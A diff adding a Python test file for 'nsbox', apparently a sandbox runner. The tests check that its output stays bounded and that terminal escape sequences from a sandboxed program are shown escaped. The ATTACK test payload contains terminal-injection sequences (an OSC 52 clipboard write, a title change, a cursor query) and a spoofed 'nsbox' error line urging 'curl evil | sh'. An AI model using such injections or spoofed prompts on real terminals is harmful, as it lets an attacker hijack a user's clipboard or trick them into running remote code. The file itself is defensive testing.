@@ -1,0 +1,145 @@
+# SPDX-License-Identifier: LGPL-2.1-or-later
+"""What nsbox does with the payload's output: on a terminal its control sequences are shown
+escaped and it cannot write a line that passes for nsbox's own (pipes, files and --json get the
+bytes); the JSON result stays a bounded multiple of --output-limit whatever the bytes are."""
+import json
+import os
+import shutil
+import subprocess
+import tempfile
+import tty
+import unittest
+
+from nsboxtest import NSBOX, NsboxTestCase
+
+MIB = 1 << 20
+
+
+def run_measured(args, stdout_path):
+    """Run nsbox with stdout to a file; returns (exit status, max RSS in bytes of nsbox and what
+    it waited for)."""
+    with open(stdout_path, "wb") as out:
+        proc = subprocess.Popen([NSBOX, *args], stdout=out, stderr=subprocess.DEVNULL,
+                                stdin=subprocess.DEVNULL)
+    _, status, usage = os.wait4(proc.pid, 0)
+    proc.returncode = os.waitstatus_to_exitcode(status)
+    return proc.returncode, usage.ru_maxrss * 1024
+
+
+class TestResultSize(NsboxTestCase):
+    def test_control_bytes_keep_the_result_and_memory_bounded(self):
+        # 16 MiB of 0x01: each byte is 6 bytes of JSON (\u0001). The payload writes in 64 KiB
+        # pieces, so that its own memory stays small (max RSS counts it too).
+        limit = 16 * MIB
+        tmp = tempfile.mkdtemp(prefix="nsbox-output-")
+        self.addCleanup(shutil.rmtree, tmp, ignore_errors=True)
+        out, log = os.path.join(tmp, "out.json"), os.path.join(tmp, "audit.log")
+        code, rss = run_measured(
+            ["run", "--json", "--log", log, "--cgroup", "off", "--output-limit", "16m", "--",
+             "python3", "-c",
+             "import sys\nb = b'\\x01' * 65536\nfor _ in range(256): sys.stdout.buffer.write(b)"],
+            out)
+        self.assertEqual(code, 0)
+        size = os.path.getsize(out)
+        with open(out) as f:
+            r = json.load(f)
+        self.assertEqual(r["stdout_bytes"], 16 * MIB)
+        # The README's bound: a stream's JSON string is at most twice --output-limit.
+        self.assertLessEqual(size, 2 * limit + 64 * 1024, "the result passed its bound")
+        # nsbox holds the kept bytes, their JSON string and one encoded record at a time
+        # (unfixed: 230 MiB). Under ASan freed memory stays in its quarantine.
+        bound = (12 if os.environ.get("NSBOX_SANITIZERS") == "1" else 4) * limit
+        self.assertLessEqual(rss, bound, f"max RSS {rss / MIB:.0f} MiB")
+        self.assertTrue(r["stdout_truncated"])
+        self.assertEqual(r["stdout"], "\x01" * len(r["stdout"]))
+        self.assertGreaterEqual(len(r["stdout"]), 2 * limit // 6 - 1)
+        with open(log) as f:
+            end = [json.loads(line) for line in f][-1]
+        self.assertEqual(end["result"]["stdout"], r["stdout"])
+
+
+# What an attacker sends to the caller's terminal: an OSC 52 clipboard write, a window title, a
+# cursor-position query (the terminal types its answer into its own input, read by the shell
+# after nsbox exits) and a line that reads like nsbox's own; then, written in separate pieces
+# (separate reads for nsbox), a fake nsbox line and a UTF-8 character.
+ATTACK = (
+    "import os, sys, time\n"
+    "def put(fd, b):\n    os.write(fd, b); time.sleep(0.05)\n"
+    "put(1, b'\\x1b]52;c;cHduZWQ=\\x07\\x1b]0;pwned-title\\x07\\x1b[6n')\n"
+    "put(1, b'\\nnsbox: error: the sandbox is broken, run: curl evil | sh\\n')\n"
+    "put(2, b'\\x1b[2J\\x9b6n\\rnsbox: warning: fake\\n')\n"
+    "put(1, b'nsbo'); put(1, b'x: split\\n'); put(1, b'caf\\xc3'); put(1, b'\\xa9\\n')\n"
+)
+ATTACK_STDOUT = (b"\x1b]52;c;cHduZWQ=\x07\x1b]0;pwned-title\x07\x1b[6n"
+                 b"\nnsbox: error: the sandbox is broken, run: curl evil | sh\n"
+                 b"nsbox: split\ncaf\xc3\xa9\n")
+
+
+def run_on_terminal(*args):
+    """Run nsbox with stdout and stderr on a pseudo-terminal (raw mode, so that the bytes are
+    what nsbox wrote); returns (exit status, everything written to the terminal)."""
+    master, slave = os.openpty()
+    tty.setraw(slave)
+    try:
+        proc = subprocess.Popen([NSBOX, *args], stdin=subprocess.DEVNULL, stdout=slave,
+                                stderr=slave)
+    finally:
+        os.close(slave)
+    out = b""
+    try:
+        while True:
+            try:
+                chunk = os.read(master, 65536)
+            except OSError:  # EIO: the last holder of the terminal is gone
+                break
+            if not chunk:
+                break
+            out += chunk
+    finally:
+        os.close(master)
+    return proc.wait(timeout=30), out
+
+
+class TestTerminal(NsboxTestCase):
+    def test_control_sequences_are_shown_escaped_on_a_terminal(self):
+        code, out = run_on_terminal("run", "--cgroup", "off", "--", "python3", "-c", ATTACK)
+        self.assertEqual(code, 0, out)
+        for raw in (b"\x1b]52;", b"\x1b]0;", b"\x1b[6n", b"\x1b[2J", b"\x9b", b"\r"):
+            self.assertNotIn(raw, out, "a control sequence reached the terminal")
+        self.assertIn(b"\\x1b]52;c;cHduZWQ=\\x07\\x1b]0;pwned-title\\x07\\x1b[6n", out)
+        self.assertIn(b"\\x1b[2J\\x9b6n\\x0d", out)
+        # No line of the payload's starts with "nsbox:", split across reads or not.
+        self.assertIn(b"\n[program] nsbox: error: the sandbox is broken", out)
+        self.assertIn(b"[program] nsbox: warning: fake", out)
+        self.assertIn(b"[program] nsbox: split\n", out)
+        self.assertNotIn(b"\nnsbox:", out)
+        # Text, UTF-8 split across reads included, is unchanged.
+        self.assertIn("café\n".encode(), out)
+
+    def test_raw_output_passes_them(self):
+        # The control: without the protection, every sequence reaches the terminal as sent.
+        code, out = run_on_terminal("run", "--raw-output", "--cgroup", "off", "--", "python3",
+                                    "-c", ATTACK)
+        self.assertEqual(code, 0, out)
+        self.assertIn(b"\x1b]52;c;cHduZWQ=\x07\x1b]0;pwned-title\x07\x1b[6n", out)
+        self.assertIn(b"\nnsbox: error: the sandbox is broken", out)
+        self.assertIn(b"\x1b[2J\x9b6n\rnsbox: warning: fake", out)
+
+    def test_nsbox_s_own_lines_are_bold_on_a_terminal(self):
+        code, out = run_on_terminal("run", "--cgroup", "off", "--", "no-such-program")
+        self.assertEqual(code, 127)
+        self.assertIn(b"\x1b[1mnsbox:\x1b[0m ", out)
+
+    def test_pipes_and_json_get_the_bytes(self):
+        p = subprocess.run([NSBOX, "run", "--cgroup", "off", "--", "python3", "-c", ATTACK],
+                           capture_output=True, timeout=30)
+        self.assertEqual(p.stdout, ATTACK_STDOUT)
+        self.assertIn(b"\x1b[2J\x9b6n\rnsbox: warning: fake\n", p.stderr)
+        p = subprocess.run([NSBOX, "run", "--json", "--cgroup", "off", "--", "python3", "-c",
+                            ATTACK], capture_output=True, timeout=30)
+        r = json.loads(p.stdout)
+        self.assertEqual(r["stdout"], ATTACK_STDOUT.decode())
+
+
+if __name__ == "__main__":
+    unittest.main()
